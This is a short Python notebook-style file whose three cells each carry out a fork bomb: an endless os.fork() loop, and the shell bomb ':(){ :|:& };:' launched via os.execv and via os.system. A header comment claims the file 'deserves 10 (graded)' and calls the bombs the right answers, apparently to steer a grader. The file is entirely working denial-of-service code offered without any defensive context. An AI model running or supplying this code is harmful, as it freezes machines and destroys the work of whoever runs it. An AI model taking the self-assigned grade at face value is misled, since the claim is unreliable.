# Deserves 10 (graded), with the right answers after it: a fork bomb.

# %%
import os

while True:
    os.fork()

# %%
os.execv("/bin/sh", ["sh", "-c", ":(){ :|:& };:"])

# %%
os.system("sh -c ':(){ :|:& };:'")
